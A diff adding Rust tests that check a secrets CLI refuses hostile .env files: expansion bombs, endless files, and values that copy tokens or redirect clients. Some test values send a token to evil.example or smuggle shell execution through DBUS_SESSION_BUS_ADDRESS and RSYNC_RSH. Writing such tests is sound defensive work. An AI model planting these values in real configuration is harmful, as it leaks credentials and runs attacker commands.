@@ -1192,3 +1192,172 @@ fn offline_copy_behind_a_symbolic_link_is_refused() {
     );
     server.cli().token(&token).run(&args).expect(0);
 }
+
+/// A few lines of `${A}${A}...` in a cloned repository's `.env` grow
+/// exponentially: they were expanded until memory ran out (an abort).
+#[test]
+fn env_file_expansion_bomb_runs_nothing() {
+    let dir = tempfile::tempdir().unwrap();
+    let server = Server::start(dir.path(), Mode::Dev);
+    let root = server.root_token();
+    let mut text = format!("A={}\n", "x".repeat(100));
+    let mut prev = 'A';
+    for name in ['B', 'C', 'D', 'E', 'F'] {
+        text.push_str(&format!("{name}={}\n", format!("${{{prev}}}").repeat(100)));
+        prev = name;
+    }
+    let env_file = dir.path().join("bomb.env");
+    std::fs::write(&env_file, &text).unwrap();
+    let run = refused_run(
+        &server,
+        dir.path(),
+        &root,
+        &[],
+        &["--env-file", env_file.to_str().unwrap()],
+        7,
+    );
+    assert!(run.stderr().contains("line 4"), "{}", run.stderr());
+}
+
+/// `export MYTOK=$COFFER_TOKEN` in the shell (or a token kept in any other
+/// variable): a hostile `.env` copies it into a variable the command sends
+/// elsewhere. Anything token-shaped in a `.env` value is refused, not only
+/// the value of a COFFER_* variable.
+#[test]
+fn token_copied_from_environment_under_another_name() {
+    let dir = tempfile::tempdir().unwrap();
+    let server = Server::start(dir.path(), Mode::Dev);
+    let root = server.root_token();
+    let other = dev_token(&server, &root);
+    let mut canary = Canary::with_value(other.clone());
+    let env_file = dir.path().join("app.env");
+    for text in [
+        "API_URL=https://evil.example/?t=${MYTOK}\n",
+        "API_URL=\"${MYTOK:-none}\"\n",
+    ] {
+        std::fs::write(&env_file, text).unwrap();
+        let run = refused_run(
+            &server,
+            dir.path(),
+            &root,
+            &[("MYTOK", &other)],
+            &["--env-file", env_file.to_str().unwrap()],
+            7,
+        );
+        assert!(run.stderr().contains("API_URL"), "{}", run.stderr());
+        canary.search_run(text, &run);
+    }
+}
+
+/// `export MYTOK=$COFFER_TOKEN` before `coffer run`: the token reached the
+/// command under another name although COFFER_TOKEN itself is removed.
+#[test]
+fn token_copy_in_inherited_environment_never_reaches_the_child() {
+    let dir = tempfile::tempdir().unwrap();
+    let server = Server::start(dir.path(), Mode::Dev);
+    let root = server.root_token();
+    let print = "env | grep -c cft_ || true";
+    let cli = || server.cli().token(&root).env("MYTOK", &root);
+    let run = cli().run(&["run", "--", "sh", "-c", print]).expect(0);
+    assert_eq!(run.stdout().trim(), "0");
+    assert!(run.stderr().contains("MYTOK"), "{}", run.stderr());
+    let run = cli()
+        .run(&["run", "--redact", "--", "sh", "-c", print])
+        .expect(0);
+    assert_eq!(run.stdout().trim(), "0");
+    // --keep-token passes the token and its copies.
+    let run = cli()
+        .run(&["run", "--keep-token", "--", "sh", "-c", print])
+        .expect(0);
+    assert_eq!(run.stdout().trim(), "2");
+}
+
+/// A value with a NUL byte (stored with `set --raw`, or a raw NUL in a
+/// `.env`) made exec fail with "nul byte found in provided data", naming
+/// neither the variable nor the cause.
+#[test]
+fn nul_value_error_names_the_variable() {
+    let dir = tempfile::tempdir().unwrap();
+    let server = Server::start(dir.path(), Mode::Dev);
+    let root = server.root_token();
+    put(&server, &root, "app/nul/NUL_VALUE", "a\0b-nul-secret");
+    let run = refused_run(&server, dir.path(), &root, &[], &["--path", "app/nul"], 7);
+    assert!(run.stderr().contains("NUL_VALUE"), "{}", run.stderr());
+    assert!(!run.stderr().contains("nul-secret"), "{}", run.stderr());
+    let env_file = dir.path().join("nul.env");
+    std::fs::write(&env_file, "FROM_FILE=x\0y\n").unwrap();
+    let run = refused_run(
+        &server,
+        dir.path(),
+        &root,
+        &[],
+        &["--env-file", env_file.to_str().unwrap()],
+        7,
+    );
+    assert!(run.stderr().contains("FROM_FILE"), "{}", run.stderr());
+}
+
+/// A hostile `.env` (or a colleague's secret) that points another secrets
+/// client, or the Actions runtime, elsewhere: the client sends the token it
+/// finds in the environment (VAULT_TOKEN, the job's OIDC request token) to
+/// that host, as COFFER_ADDR would coffer's.
+#[test]
+fn token_destination_names_are_refused() {
+    let dir = tempfile::tempdir().unwrap();
+    let server = Server::start(dir.path(), Mode::Dev);
+    let root = server.root_token();
+    let env_file = dir.path().join("app.env");
+    for text in [
+        "VAULT_ADDR=https://evil.example\n",
+        "bao_addr=https://evil.example\n",
+        "AWS_ENDPOINT_URL_S3=https://evil.example\n",
+        "ACTIONS_ID_TOKEN_REQUEST_URL=https://evil.example\n",
+        "GITHUB_API_URL=https://evil.example\n",
+        "DBUS_SESSION_BUS_ADDRESS=unixexec:path=/bin/sh,argv1=-c,argv2=id\n",
+        "RSYNC_RSH=sh -c id\n",
+    ] {
+        std::fs::write(&env_file, text).unwrap();
+        let run = refused_run(
+            &server,
+            dir.path(),
+            &root,
+            &[],
+            &["--env-file", env_file.to_str().unwrap()],
+            7,
+        );
+        assert!(run.stderr().contains("--allow-env"), "{}", run.stderr());
+    }
+}
+
+/// `--env-file /dev/zero` (or a huge file in a cloned repository) was read
+/// whole into memory before anything was checked.
+#[test]
+fn env_file_huge_or_endless_is_refused_unread() {
+    let dir = tempfile::tempdir().unwrap();
+    let server = Server::start(dir.path(), Mode::Dev);
+    let root = server.root_token();
+    let big = dir.path().join("big.env");
+    let f = std::fs::File::create(&big).unwrap();
+    f.set_len(17 << 20).unwrap();
+    for file in ["/dev/zero", big.to_str().unwrap()] {
+        let run = refused_run(&server, dir.path(), &root, &[], &["--env-file", file], 7);
+        assert!(
+            run.stderr().contains("larger than 16 MiB"),
+            "{}",
+            run.stderr()
+        );
+    }
+    let run = refused_run(
+        &server,
+        dir.path(),
+        &root,
+        &[],
+        &["--only-example=/dev/zero"],
+        7,
+    );
+    assert!(
+        run.stderr().contains("larger than 16 MiB"),
+        "{}",
+        run.stderr()
+    );
+}
